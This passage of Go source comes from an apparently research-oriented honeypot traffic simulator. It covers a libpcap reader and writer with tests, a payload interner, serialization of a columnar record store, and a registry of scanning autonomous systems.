		t.Error("truncated capture should error")
	}
}

func TestReaderRejectsHugeRecord(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.WriteFrame(time.Now(), []byte{1, 2, 3}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	// Corrupt the capture length field of the first record.
	binary.LittleEndian.PutUint32(data[24+8:24+12], maxSnapLen+1)
	r := NewReader(bytes.NewReader(data))
	if _, _, err := r.NextFrame(); err != ErrTooLarge {
		t.Errorf("err = %v, want ErrTooLarge", err)
	}
}

func TestWriterRejectsOversizedFrame(t *testing.T) {
	w := NewWriter(io.Discard)
	if err := w.WriteFrame(time.Now(), make([]byte, maxSnapLen+1)); err != ErrTooLarge {
		t.Errorf("err = %v, want ErrTooLarge", err)
	}
}

func TestRoundTripProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := rng.Intn(10)
		packets := make([]wire.Packet, n)
		for i := range packets {
			payload := make([]byte, rng.Intn(300))
			rng.Read(payload)
			proto := wire.TCP
			if rng.Intn(2) == 0 {
				proto = wire.UDP
			}
			packets[i] = wire.Packet{
				Time:    time.Unix(rng.Int63n(2e9), int64(rng.Intn(1e6))*1000).UTC(),
				Src:     wire.Addr(rng.Uint32()),
				Dst:     wire.Addr(rng.Uint32()),
				SrcPort: uint16(rng.Intn(65536)),
				DstPort: uint16(rng.Intn(65536)),
				Proto:   proto,
				Flags:   wire.TCPFlags(rng.Intn(256)),
				Payload: payload,
			}
		}
		var buf bytes.Buffer
		if err := WriteAll(&buf, packets); err != nil {
			return false
		}
		got, err := ReadAll(&buf)
		if err != nil || len(got) != n {
			return false
		}
		for i := range packets {
			if got[i].Src != packets[i].Src || got[i].Dst != packets[i].Dst {
				return false
			}
			if !got[i].Time.Equal(packets[i].Time) {
				return false
			}
			if len(packets[i].Payload) != len(got[i].Payload) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Error(err)
	}
}

func TestReaderNeverPanicsOnGarbageProperty(t *testing.T) {
	f := func(data []byte) bool {
		_, _ = ReadAll(bytes.NewReader(data)) // must not panic
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
