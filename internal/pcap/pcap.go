// Package pcap reads and writes libpcap-format capture files
// (tcpdump's classic format, magic 0xA1B2C3D4, link type Ethernet).
// The paper releases its honeypot/telescope traffic dataset; this
// package is the on-disk format for ours, and the files it writes are
// readable by standard analyzers.
package pcap

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"time"

	"cloudwatch/internal/wire"
)

const (
	magicMicroseconds = 0xA1B2C3D4
	versionMajor      = 2
	versionMinor      = 4
	linkTypeEthernet  = 1
	maxSnapLen        = 262144
)

// Format errors.
var (
	ErrBadMagic   = errors.New("pcap: bad magic number")
	ErrBadVersion = errors.New("pcap: unsupported version")
	ErrBadLink    = errors.New("pcap: unsupported link type")
	ErrShortRead  = errors.New("pcap: truncated file")
	ErrTooLarge   = errors.New("pcap: packet exceeds snap length")
)

// Writer writes packets to a pcap stream. It buffers internally; call
// Flush (or use WriteFile) before closing the underlying writer.
type Writer struct {
	w       *bufio.Writer
	wroteHd bool
}

// NewWriter returns a Writer emitting to w. The file header is written
// lazily on the first packet (or by Flush on an empty capture).
func NewWriter(w io.Writer) *Writer {
	return &Writer{w: bufio.NewWriter(w)}
}

func (w *Writer) header() error {
	if w.wroteHd {
		return nil
	}
	var hd [24]byte
	binary.LittleEndian.PutUint32(hd[0:4], magicMicroseconds)
	binary.LittleEndian.PutUint16(hd[4:6], versionMajor)
	binary.LittleEndian.PutUint16(hd[6:8], versionMinor)
	// thiszone = 0, sigfigs = 0.
	binary.LittleEndian.PutUint32(hd[16:20], maxSnapLen)
	binary.LittleEndian.PutUint32(hd[20:24], linkTypeEthernet)
	if _, err := w.w.Write(hd[:]); err != nil {
		return fmt.Errorf("pcap: writing file header: %w", err)
	}
	w.wroteHd = true
	return nil
}

// WritePacket encodes p as an Ethernet frame and appends it with a
// pcap record header carrying p.Time.
func (w *Writer) WritePacket(p wire.Packet) error {
	frame, err := wire.EncodeFrame(p)
	if err != nil {
		return err
	}
	return w.WriteFrame(p.Time, frame)
}

// WriteFrame appends a raw Ethernet frame with the given timestamp.
func (w *Writer) WriteFrame(ts time.Time, frame []byte) error {
	if len(frame) > maxSnapLen {
		return ErrTooLarge
	}
	if err := w.header(); err != nil {
		return err
	}
	var rec [16]byte
	binary.LittleEndian.PutUint32(rec[0:4], uint32(ts.Unix()))
	binary.LittleEndian.PutUint32(rec[4:8], uint32(ts.Nanosecond()/1000))
	binary.LittleEndian.PutUint32(rec[8:12], uint32(len(frame)))
	binary.LittleEndian.PutUint32(rec[12:16], uint32(len(frame)))
	if _, err := w.w.Write(rec[:]); err != nil {
		return fmt.Errorf("pcap: writing record header: %w", err)
	}
	if _, err := w.w.Write(frame); err != nil {
		return fmt.Errorf("pcap: writing frame: %w", err)
	}
	return nil
}

// Flush writes any buffered data (and the file header, if no packet
// was ever written) to the underlying writer.
func (w *Writer) Flush() error {
	if err := w.header(); err != nil {
		return err
	}
	return w.w.Flush()
}

// Reader reads packets from a pcap stream produced by Writer (or any
// microsecond-precision little-endian Ethernet pcap).
type Reader struct {
	r      *bufio.Reader
	readHd bool
}

// NewReader returns a Reader consuming from r.
func NewReader(r io.Reader) *Reader {
	return &Reader{r: bufio.NewReader(r)}
}

func (r *Reader) fileHeader() error {
	if r.readHd {
		return nil
	}
	var hd [24]byte
	if _, err := io.ReadFull(r.r, hd[:]); err != nil {
		return fmt.Errorf("%w: file header: %v", ErrShortRead, err)
	}
	if binary.LittleEndian.Uint32(hd[0:4]) != magicMicroseconds {
		return ErrBadMagic
	}
	if binary.LittleEndian.Uint16(hd[4:6]) != versionMajor {
		return ErrBadVersion
	}
	if binary.LittleEndian.Uint32(hd[20:24]) != linkTypeEthernet {
		return ErrBadLink
	}
	r.readHd = true
	return nil
}

// NextFrame returns the next raw frame and its timestamp, or io.EOF at
// the clean end of the capture.
func (r *Reader) NextFrame() (time.Time, []byte, error) {
	if err := r.fileHeader(); err != nil {
		return time.Time{}, nil, err
	}
	var rec [16]byte
	if _, err := io.ReadFull(r.r, rec[:]); err != nil {
		if err == io.EOF {
			return time.Time{}, nil, io.EOF
		}
		return time.Time{}, nil, fmt.Errorf("%w: record header: %v", ErrShortRead, err)
	}
	sec := binary.LittleEndian.Uint32(rec[0:4])
	usec := binary.LittleEndian.Uint32(rec[4:8])
	capLen := binary.LittleEndian.Uint32(rec[8:12])
	if capLen > maxSnapLen {
		return time.Time{}, nil, ErrTooLarge
	}
	frame := make([]byte, capLen)
	if _, err := io.ReadFull(r.r, frame); err != nil {
		return time.Time{}, nil, fmt.Errorf("%w: frame body: %v", ErrShortRead, err)
	}
	ts := time.Unix(int64(sec), int64(usec)*1000).UTC()
	return ts, frame, nil
}

// NextPacket returns the next frame decoded into a wire.Packet (with
// the record timestamp filled in), or io.EOF at end of capture.
func (r *Reader) NextPacket() (wire.Packet, error) {
	ts, frame, err := r.NextFrame()
	if err != nil {
		return wire.Packet{}, err
	}
	p, err := wire.DecodeFrame(frame)
	if err != nil {
		return wire.Packet{}, err
	}
	p.Time = ts
	return p, nil
}

// ReadAll decodes every packet in the stream.
func ReadAll(r io.Reader) ([]wire.Packet, error) {
	pr := NewReader(r)
	var out []wire.Packet
	for {
		p, err := pr.NextPacket()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, p)
	}
}

// WriteAll writes every packet to w in pcap format and flushes.
func WriteAll(w io.Writer, packets []wire.Packet) error {
	pw := NewWriter(w)
	for _, p := range packets {
		if err := pw.WritePacket(p); err != nil {
			return err
		}
	}
	return pw.Flush()
}
