package netsim

import "sync"

// PayloadID is a compact handle to an interned probe payload. The zero
// id means "no payload". Probes and records carry ids instead of byte
// slices, so per-record payload facts (IDS verdict, normalized key,
// protocol fingerprint) can be computed once per distinct payload and
// shared by every record that carries it.
type PayloadID int32

// payloadInterner is the process-wide payload dictionary. Scanner
// payload corpora register their entries once at package init; dynamic
// payloads (telnet credential captures, raw test probes) intern on
// first sight. The interner always stores its own copy of the bytes,
// so interned payloads never alias a caller's (possibly mutable)
// buffer — the aliasing guarantee the collector's compatibility view
// relies on.
//
// The id space is shared by every study in the process. Ids are opaque
// handles: no analysis output depends on id assignment order, so
// concurrent studies interning in different orders still produce
// byte-identical tables.
//
// Known tradeoff: the interner never evicts. Dictionary corpora are
// small and fixed, but dynamically captured payloads (cleartext telnet
// logins, whose byte forms vary with the credential permutation) add
// entries per distinct capture — a process sweeping many study seeds
// grows the interner (and the per-payload fact caches keyed by id)
// linearly in the distinct captures seen. Scoping dynamic captures per
// study is the noted follow-up if seed sweeps become a steady-state
// workload (see ROADMAP).
var payloadInterner = struct {
	sync.RWMutex
	byContent map[string]PayloadID
	bytes     [][]byte // bytes[0] unused (PayloadID 0 = no payload)
}{
	byContent: map[string]PayloadID{},
	bytes:     [][]byte{nil},
}

// InternPayload returns the stable id of a payload, registering a
// private copy on first sight. Empty payloads return 0. Safe for
// concurrent use.
func InternPayload(p []byte) PayloadID {
	if len(p) == 0 {
		return 0
	}
	payloadInterner.RLock()
	id, ok := payloadInterner.byContent[string(p)]
	payloadInterner.RUnlock()
	if ok {
		return id
	}
	payloadInterner.Lock()
	defer payloadInterner.Unlock()
	if id, ok := payloadInterner.byContent[string(p)]; ok {
		return id
	}
	cp := make([]byte, len(p))
	copy(cp, p)
	id = PayloadID(len(payloadInterner.bytes))
	payloadInterner.bytes = append(payloadInterner.bytes, cp)
	payloadInterner.byContent[string(cp)] = id
	return id
}

// InternPayloads interns a payload corpus, preserving order — the
// registration call payload dictionaries make at package init.
func InternPayloads(ps [][]byte) []PayloadID {
	out := make([]PayloadID, len(ps))
	for i, p := range ps {
		out[i] = InternPayload(p)
	}
	return out
}

// PayloadBytes returns the interned bytes of an id (nil for 0). The
// slice is owned by the interner and must not be mutated.
func PayloadBytes(id PayloadID) []byte {
	if id == 0 {
		return nil
	}
	payloadInterner.RLock()
	b := payloadInterner.bytes[id]
	payloadInterner.RUnlock()
	return b
}

// PayloadCount returns the number of ids handed out so far (including
// the reserved zero id), i.e. every valid id is < PayloadCount().
func PayloadCount() int {
	payloadInterner.RLock()
	n := len(payloadInterner.bytes)
	payloadInterner.RUnlock()
	return n
}

// LookupPayload returns the id of an already-interned payload without
// registering unseen ones — the read-only probe for records built
// outside the simulator (daemons, raw test probes).
func LookupPayload(p []byte) (PayloadID, bool) {
	if len(p) == 0 {
		return 0, true
	}
	payloadInterner.RLock()
	id, ok := payloadInterner.byContent[string(p)]
	payloadInterner.RUnlock()
	return id, ok
}
