package netsim

import (
	"fmt"

	"cloudwatch/internal/wire"
)

// Serialization of the columnar record store for the durable epoch
// store (internal/store). The struct-of-arrays layout makes framing
// near-free: every scalar column is appended as a length-prefixed run
// of fixed-width values, and only the credential arena needs
// per-element encoding.
//
// Payload ids are process-local (the interner hands them out in
// first-sight order, which depends on worker scheduling), so a block
// on disk is only meaningful next to a payload dictionary mapping its
// ids to payload bytes. AppendPayloadDict persists the dictionary;
// DecodePayloadDict re-interns every entry in the reading process and
// returns the old-id → new-id remap DecodeRecordBlock applies to the
// Pay column.

// AppendBinary serializes the block onto dst and returns the extended
// buffer.
func (b *RecordBlock) AppendBinary(dst []byte) []byte {
	n := b.Len()
	dst = wire.AppendU32(dst, uint32(n))
	dst = wire.AppendI32s(dst, b.Vantage)
	dst = wire.AppendI32s(dst, b.Sec)
	dst = wire.AppendI32s(dst, b.Nsec)
	dst = wire.AppendAddrs(dst, b.Src)
	dst = wire.AppendI32s(dst, b.ASN)
	dst = wire.AppendU32(dst, uint32(len(b.Port)))
	for _, p := range b.Port {
		dst = wire.AppendU16(dst, p)
	}
	dst = wire.AppendU32(dst, uint32(len(b.Transport)))
	for _, tr := range b.Transport {
		dst = wire.AppendU8(dst, uint8(tr))
	}
	dst = wire.AppendU32(dst, uint32(len(b.Pay)))
	for _, pay := range b.Pay {
		dst = wire.AppendI32(dst, int32(pay))
	}
	dst = wire.AppendI32s(dst, b.Cred)
	dst = wire.AppendU32(dst, uint32(len(b.CredLists)))
	for _, creds := range b.CredLists {
		dst = wire.AppendU32(dst, uint32(len(creds)))
		for _, c := range creds {
			dst = wire.AppendString(dst, c.Username)
			dst = wire.AppendString(dst, c.Password)
		}
	}
	return dst
}

// DecodeRecordBlock reads one serialized block, rewriting the Pay
// column through remap (old on-disk id → id in this process, from
// DecodePayloadDict). Every column must carry the same record count.
func DecodeRecordBlock(r *wire.BinReader, remap []PayloadID) (RecordBlock, error) {
	var b RecordBlock
	n := int(r.U32())
	b.Vantage = r.I32s()
	b.Sec = r.I32s()
	b.Nsec = r.I32s()
	b.Src = r.Addrs()
	b.ASN = r.I32s()

	nPort := r.Count(2)
	if r.Err() == nil && nPort > 0 {
		b.Port = make([]uint16, nPort)
		for i := range b.Port {
			b.Port[i] = r.U16()
		}
	}
	nTr := r.Count(1)
	if r.Err() == nil && nTr > 0 {
		b.Transport = make([]wire.Transport, nTr)
		for i := range b.Transport {
			b.Transport[i] = wire.Transport(r.U8())
		}
	}
	nPay := r.Count(4)
	if r.Err() == nil && nPay > 0 {
		b.Pay = make([]PayloadID, nPay)
		for i := range b.Pay {
			old := r.I32()
			if old < 0 || int(old) >= len(remap) {
				return b, fmt.Errorf("netsim: record block payload id %d outside dictionary of %d", old, len(remap))
			}
			b.Pay[i] = remap[old]
		}
	}
	b.Cred = r.I32s()

	nLists := r.Count(4)
	if r.Err() == nil && nLists > 0 {
		b.CredLists = make([][]Credential, nLists)
		for i := range b.CredLists {
			creds := make([]Credential, r.Count(8))
			for j := range creds {
				creds[j] = Credential{Username: r.String(), Password: r.String()}
			}
			b.CredLists[i] = creds
		}
	}
	if err := r.Err(); err != nil {
		return b, fmt.Errorf("netsim: decoding record block: %w", err)
	}
	for _, col := range []int{len(b.Vantage), len(b.Sec), len(b.Nsec), len(b.Src), len(b.ASN), len(b.Port), len(b.Transport), len(b.Pay), len(b.Cred)} {
		if col != n {
			return b, fmt.Errorf("netsim: record block columns disagree on length (%d vs %d)", col, n)
		}
	}
	for _, c := range b.Cred {
		if c >= 0 && int(c) >= len(b.CredLists) {
			return b, fmt.Errorf("netsim: record block credential index %d outside arena of %d", c, len(b.CredLists))
		}
	}
	return b, nil
}

// AppendPayloadDict serializes the payload interner's current table
// (ids 1..PayloadCount-1, in id order). Blocks persisted alongside the
// dictionary always reference ids below the persisted count, because
// the interner only grows.
func AppendPayloadDict(dst []byte) []byte {
	n := PayloadCount()
	dst = wire.AppendU32(dst, uint32(n-1))
	for id := 1; id < n; id++ {
		dst = wire.AppendBytes(dst, PayloadBytes(PayloadID(id)))
	}
	return dst
}

// DecodePayloadDict reads a persisted payload dictionary, interns
// every payload in this process, and returns the remap table: the id
// a stored block used at position i maps to remap[i] here. remap[0]
// is the reserved "no payload" id.
func DecodePayloadDict(r *wire.BinReader) ([]PayloadID, error) {
	n := r.Count(4)
	remap := make([]PayloadID, n+1)
	for i := 1; i <= n; i++ {
		pay := r.Bytes()
		if r.Err() != nil {
			break
		}
		if len(pay) == 0 {
			return nil, fmt.Errorf("netsim: payload dictionary entry %d is empty", i)
		}
		remap[i] = InternPayload(pay)
	}
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("netsim: decoding payload dictionary: %w", err)
	}
	return remap, nil
}
