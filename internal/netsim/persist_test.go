package netsim

import (
	"reflect"
	"testing"
	"time"

	"cloudwatch/internal/wire"
)

func persistTestBlock(t *testing.T) (RecordBlock, []PayloadID) {
	t.Helper()
	payA := InternPayload([]byte("persist-test-payload-A"))
	payB := InternPayload([]byte("persist-test-payload-B"))
	var b RecordBlock
	mk := func(src wire.Addr, port uint16, pay PayloadID, creds []Credential) {
		p := Probe{
			T:         StudyStart.Add(90 * time.Minute),
			Src:       src,
			ASN:       64500,
			Port:      port,
			Transport: wire.TCP,
			Pay:       pay,
		}
		b.Append(7, &p, pay, creds)
	}
	mk(101, 22, payA, []Credential{{Username: "root", Password: "toor"}, {Username: "admin", Password: ""}})
	mk(102, 80, payB, nil)
	mk(103, 445, 0, nil)
	mk(101, 23, payA, []Credential{{Username: "pi", Password: "raspberry"}})
	return b, []PayloadID{payA, payB}
}

func TestRecordBlockBinaryRoundTrip(t *testing.T) {
	b, pays := persistTestBlock(t)

	var dict []byte
	dict = AppendPayloadDict(dict)
	remap, err := DecodePayloadDict(wire.NewBinReader(dict))
	if err != nil {
		t.Fatal(err)
	}
	// Same process: re-interning maps every id to itself.
	for id := 1; id < PayloadCount(); id++ {
		if remap[id] != PayloadID(id) {
			t.Fatalf("same-process remap moved id %d -> %d", id, remap[id])
		}
	}

	enc := b.AppendBinary(nil)
	r := wire.NewBinReader(enc)
	got, err := DecodeRecordBlock(r, remap)
	if err != nil {
		t.Fatal(err)
	}
	if r.Len() != 0 {
		t.Fatalf("decoder left %d bytes", r.Len())
	}
	if !reflect.DeepEqual(b, got) {
		t.Fatalf("round trip mismatch:\n%+v\nvs\n%+v", b, got)
	}
	if got.Pay[0] != pays[0] || got.Pay[1] != pays[1] {
		t.Fatal("payload ids lost")
	}
	// Reconstructed rows agree too (exercises cred arena + timestamps).
	for i := 0; i < b.Len(); i++ {
		if !reflect.DeepEqual(b.Record(i, "v"), got.Record(i, "v")) {
			t.Fatalf("record %d differs after round trip", i)
		}
	}
}

// TestDecodeRecordBlockRejectsCorruption verifies the decoder fails
// cleanly on out-of-dictionary payload ids, column length skew, and
// bad credential indexes instead of producing a corrupt block.
func TestDecodeRecordBlockRejectsCorruption(t *testing.T) {
	b, _ := persistTestBlock(t)
	remap, err := DecodePayloadDict(wire.NewBinReader(AppendPayloadDict(nil)))
	if err != nil {
		t.Fatal(err)
	}
	enc := b.AppendBinary(nil)

	// Truncations at a sample of offsets must error, never panic.
	for _, cut := range []int{0, 1, 5, len(enc) / 2, len(enc) - 1} {
		if _, err := DecodeRecordBlock(wire.NewBinReader(enc[:cut]), remap); err == nil {
			t.Fatalf("truncation at %d decoded successfully", cut)
		}
	}

	// A payload id outside the dictionary is rejected.
	tiny := []PayloadID{0} // dictionary with no real ids
	if _, err := DecodeRecordBlock(wire.NewBinReader(enc), tiny); err == nil {
		t.Fatal("out-of-dictionary payload id decoded successfully")
	}
}

func TestDecodePayloadDictRemapsAcrossProcesses(t *testing.T) {
	// Simulate a "foreign" process dictionary: entries the current
	// interner has never seen land at fresh ids, known ones dedup.
	var dict []byte
	dict = wire.AppendU32(dict, 2)
	dict = wire.AppendBytes(dict, []byte("persist-test-payload-A")) // known
	dict = wire.AppendBytes(dict, []byte("persist-test-payload-foreign"))
	remap, err := DecodePayloadDict(wire.NewBinReader(dict))
	if err != nil {
		t.Fatal(err)
	}
	if len(remap) != 3 || remap[0] != 0 {
		t.Fatalf("remap = %v", remap)
	}
	if want := InternPayload([]byte("persist-test-payload-A")); remap[1] != want {
		t.Fatalf("known payload remapped to %d, want %d", remap[1], want)
	}
	if got := PayloadBytes(remap[2]); string(got) != "persist-test-payload-foreign" {
		t.Fatalf("foreign payload remapped to %q", got)
	}
}
