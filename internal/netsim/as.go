package netsim

import (
	"fmt"
	"strconv"
)

// ASKind categorizes an autonomous system for actor construction.
type ASKind int

// AS categories.
const (
	ASResearch ASKind = iota // vetted research / search-engine scanners
	ASCloud                  // cloud / hosting providers
	ASISP                    // consumer or national ISPs
	ASBullet                 // bulletproof hosting
	ASSecurity               // commercial security vendors
)

// AS is an autonomous system in the simulated Internet.
type AS struct {
	ASN     int
	Name    string
	Country string // ISO country code of the operator
	Kind    ASKind

	// key is the memoized Key() string, filled for registry entries at
	// package init so the per-probe telescope and per-record analysis
	// paths never re-format it. Hand-built AS values fall back to
	// formatting on demand.
	key string
}

// Key renders the stable "ASN name" form used as a frequency-table
// category ("who is scanning" comparisons identify actors "by their
// autonomous system, as opposed to IP address", §3.3). Registry
// entries return a string memoized at init; the fallback formats
// without fmt.
func (a AS) Key() string {
	if a.key != "" {
		return a.key
	}
	return formatASKey(a.ASN, a.Name)
}

// formatASKey builds "AS<asn> <name>" with byte appends.
func formatASKey(asn int, name string) string {
	b := make([]byte, 0, 2+10+1+len(name))
	b = append(b, 'A', 'S')
	b = strconv.AppendInt(b, int64(asn), 10)
	b = append(b, ' ')
	b = append(b, name...)
	return string(b)
}

// ASKeyOf returns the table key of an ASN: the registry entry's
// memoized Key, or "AS<asn>" for ASNs outside the registry — the
// single derivation the record columns point at.
func ASKeyOf(asn int) string {
	if a, ok := registryByASN[asn]; ok {
		return a.key
	}
	return "AS" + strconv.Itoa(asn)
}

// The registry mirrors the operators named in the paper plus enough
// filler to give traffic a realistic long tail of scanning ASes.
// Entries are compact rows expanded into AS values (with their Key
// memoized) at init.
type asRow struct {
	asn     int
	name    string
	country string
	kind    ASKind
}

var registryRows = []asRow{
	// Named in the paper.
	{398324, "Censys", "US", ASResearch},
	{10439, "Shodan (CariNet)", "US", ASResearch},
	{6503, "Axtel", "MX", ASISP},
	{53667, "PonyNet (FranTech)", "US", ASBullet},
	{4134, "Chinanet", "CN", ASISP},
	{56046, "China Mobile", "CN", ASISP},
	{9808, "China Mobile Guangdong", "CN", ASISP},
	{174, "Cogent", "US", ASCloud},
	{198605, "Avast", "CZ", ASSecurity},
	{9009, "M247", "GB", ASCloud},
	{60068, "CDN77", "GB", ASCloud},
	{5384, "Emirates Internet", "AE", ASISP},
	{14522, "SATNET", "EC", ASISP},
	// Long-tail filler: hosting, ISPs, and abuse sources.
	{16276, "OVH", "FR", ASCloud},
	{14061, "DigitalOcean", "US", ASCloud},
	{24940, "Hetzner", "DE", ASCloud},
	{45090, "Tencent", "CN", ASCloud},
	{37963, "Alibaba", "CN", ASCloud},
	{4766, "Korea Telecom", "KR", ASISP},
	{9121, "Turk Telekom", "TR", ASISP},
	{8452, "TE-AS Egypt", "EG", ASISP},
	{7922, "Comcast", "US", ASISP},
	{3462, "HiNet Taiwan", "TW", ASISP},
	{17974, "Telkomnet Indonesia", "ID", ASISP},
	{45899, "VNPT Vietnam", "VN", ASISP},
	{131090, "CAT Telecom Thailand", "TH", ASISP},
	{9829, "BSNL India", "IN", ASISP},
	{8151, "Uninet Mexico", "MX", ASISP},
	{28573, "Claro Brazil", "BR", ASISP},
	{12389, "Rostelecom", "RU", ASISP},
	{49505, "Selectel", "RU", ASCloud},
	{202425, "IP Volume", "NL", ASBullet},
	{204428, "SS-Net", "RO", ASBullet},
	{48693, "Rices Privately", "RO", ASBullet},
	{211252, "Delis LLC", "US", ASBullet},
	{47890, "Unmanaged LTD", "GB", ASBullet},
	{36352, "ColoCrossing", "US", ASCloud},
	{63949, "Linode LLC", "US", ASCloud},
	{396982, "Google Cloud", "US", ASCloud},
	{16509, "Amazon AWS", "US", ASCloud},
	{8075, "Microsoft Azure", "US", ASCloud},
	{701, "Verizon", "US", ASISP},
	{3320, "Deutsche Telekom", "DE", ASISP},
	{1221, "Telstra", "AU", ASISP},
	{4837, "China Unicom", "CN", ASISP},
	{18403, "FPT Vietnam", "VN", ASISP},
	{24560, "Airtel India", "IN", ASISP},
	{55836, "Reliance Jio", "IN", ASISP},
}

var registry = func() []AS {
	out := make([]AS, len(registryRows))
	for i, r := range registryRows {
		out[i] = AS{ASN: r.asn, Name: r.name, Country: r.country, Kind: r.kind,
			key: formatASKey(r.asn, r.name)}
	}
	return out
}()

var registryByASN = func() map[int]AS {
	m := make(map[int]AS, len(registry))
	for _, a := range registry {
		m[a.ASN] = a
	}
	return m
}()

// LookupAS returns the registry entry for an ASN.
func LookupAS(asn int) (AS, bool) {
	a, ok := registryByASN[asn]
	return a, ok
}

// MustAS returns the registry entry for an ASN or panics; for actor
// construction, where a missing ASN is a programming error.
func MustAS(asn int) AS {
	a, ok := registryByASN[asn]
	if !ok {
		panic(fmt.Sprintf("netsim: ASN %d not in registry", asn))
	}
	return a
}

// AllAS returns the full registry in declaration order.
func AllAS() []AS {
	out := make([]AS, len(registry))
	copy(out, registry)
	return out
}
