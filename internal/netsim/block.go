package netsim

import (
	"time"

	"cloudwatch/internal/wire"
)

// RecordBlock is the struct-of-arrays storage of collected honeypot
// records: one scalar column per Record field, with the heavyweight
// fields compressed — vantage strings become interned vantage ids
// (Universe target positions), timestamps become int32 study-seconds
// plus int32 nanos, payloads become interned PayloadIDs, and
// credential lists live in a per-block arena referenced by index. A
// record costs ~40 pointer-free bytes instead of a ~120-byte struct
// holding strings and slices, which removes the record storage from
// the garbage collector's scan set almost entirely.
//
// Blocks are append-only and not safe for concurrent mutation; the
// pipeline gives each worker shard a private block and merges them
// with AppendRange. Record(i) reconstructs the row-oriented
// compatibility view (see Record).
type RecordBlock struct {
	Vantage   []int32 // interned vantage id (Universe target position)
	Sec       []int32 // whole seconds since StudyStart
	Nsec      []int32 // nanoseconds within the second
	Src       []wire.Addr
	ASN       []int32
	Port      []uint16
	Transport []wire.Transport
	Pay       []PayloadID
	Cred      []int32 // index into CredLists; -1 = no credentials

	// CredLists is the credential-list arena. Entries are shared with
	// the probes that carried them; treat as read-only.
	CredLists [][]Credential

	// arena, when set (UseArena), backs column growth: ensureCap carves
	// replacement columns out of the arena's chunked slabs instead of
	// the heap. See ColumnArena for the ownership rules.
	arena *ColumnArena
}

// ColumnArena allocates record columns for many blocks out of large
// shared slabs — one slab per element type, bump-allocated in chunks.
// The streaming engine gives each generation worker one arena so its
// per-epoch sink blocks stop multiplying small column allocations
// (8 epochs × 9 columns × growth rounds) into GC-visible objects.
//
// Ownership rules: the arena owns its slabs; slices handed out by
// arena-mode growth are capacity-clipped views that never overlap, so
// writers cannot spill into a neighbor. A finished block's columns are
// immutable views into the slabs — safe to publish, persist, or merge
// from — while the arena itself is dropped or retained wholesale. An
// arena is single-goroutine; give each worker its own, shared across
// that worker's blocks.
type ColumnArena struct {
	i32s  []int32
	addrs []wire.Addr
	ports []uint16
	trs   []wire.Transport
	pays  []PayloadID
}

// arenaChunk is the minimum slab chunk size in elements: big enough to
// amortize chunk allocation, small enough that a nearly-unused tail
// chunk wastes little.
const arenaChunk = 1 << 16

// NewColumnArena returns an arena pre-sized for `records` records
// across every column type (the int32 slab covers the five int32
// columns plus slack for growth rounds). The hint is exactly that: an
// arena never fails, it just starts a fresh chunk when a slab runs out.
func NewColumnArena(records int) *ColumnArena {
	a := &ColumnArena{}
	if records > 0 {
		a.i32s = make([]int32, 0, 6*records)
		a.addrs = make([]wire.Addr, 0, records)
		a.ports = make([]uint16, 0, records)
		a.trs = make([]wire.Transport, 0, records)
		a.pays = make([]PayloadID, 0, records)
	}
	return a
}

// grab bump-allocates n elements from a slab, starting a fresh chunk
// when the current one cannot fit them (the remainder of the old chunk
// is abandoned — arenas trade that slack for allocation count). The
// returned slice has length n and capacity n, so an append through it
// can never reach the slab.
func grab[T any](buf *[]T, n int) []T {
	if len(*buf)+n > cap(*buf) {
		size := n
		if size < arenaChunk {
			size = arenaChunk
		}
		*buf = make([]T, 0, size)
	}
	off := len(*buf)
	*buf = (*buf)[:off+n]
	return (*buf)[off : off+n : off+n]
}

// UseArena switches the block into arena-backed append mode: every
// future capacity growth (Grow, Append past capacity) carves the
// replacement columns out of a instead of the heap. Existing column
// contents are preserved on the next growth. Several blocks may share
// one arena as long as all of them are appended to from the same
// goroutine.
func (b *RecordBlock) UseArena(a *ColumnArena) { b.arena = a }

// Len returns the number of records stored.
func (b *RecordBlock) Len() int { return len(b.Sec) }

// Append stores one observed probe: the probe's routing fields, the
// collector-decided payload id and credential list. Columns grow in
// lockstep (one coordinated doubling instead of nine staggered
// reallocations), so the hot path is a capacity check plus scalar
// stores.
func (b *RecordBlock) Append(vantage int32, p *Probe, pay PayloadID, creds []Credential) {
	sec, nsec := StudySeconds(p.T)
	b.AppendAt(vantage, sec, nsec, p, pay, creds)
}

// AppendAt is Append with the timestamp already split into study
// seconds — the epoch-routing dispatch computes the split to pick a
// sink and passes it through instead of re-deriving it here.
func (b *RecordBlock) AppendAt(vantage, sec, nsec int32, p *Probe, pay PayloadID, creds []Credential) {
	i := len(b.Sec)
	if i == cap(b.Sec) {
		// 4× growth, not 2×: blocks are pointer-free scalar columns, so
		// over-allocation costs idle bytes rather than GC scan work,
		// while each saved doubling round saves a nine-column copy of
		// the whole block.
		grow := 4 * i
		if grow < 4096 {
			grow = 4096
		}
		b.ensureCap(grow)
	}
	b.Vantage = b.Vantage[:i+1]
	b.Vantage[i] = vantage
	b.Sec = b.Sec[:i+1]
	b.Sec[i] = sec
	b.Nsec = b.Nsec[:i+1]
	b.Nsec[i] = nsec
	b.Src = b.Src[:i+1]
	b.Src[i] = p.Src
	b.ASN = b.ASN[:i+1]
	b.ASN[i] = int32(p.ASN)
	b.Port = b.Port[:i+1]
	b.Port[i] = p.Port
	b.Transport = b.Transport[:i+1]
	b.Transport[i] = p.Transport
	b.Pay = b.Pay[:i+1]
	b.Pay[i] = pay
	cred := int32(-1)
	if len(creds) > 0 {
		cred = int32(len(b.CredLists))
		b.CredLists = append(b.CredLists, creds)
	}
	b.Cred = b.Cred[:i+1]
	b.Cred[i] = cred
}

// Grow preallocates capacity for n additional records in every scalar
// column.
func (b *RecordBlock) Grow(n int) {
	b.ensureCap(b.Len() + n)
}

// ensureCap reallocates every scalar column to capacity need (no-op
// when already large enough), keeping the columns' capacities in
// lockstep. In arena append mode (UseArena) the replacement columns
// come from the arena's slabs; otherwise from the heap.
func (b *RecordBlock) ensureCap(need int) {
	if cap(b.Sec) >= need {
		return
	}
	if a := b.arena; a != nil {
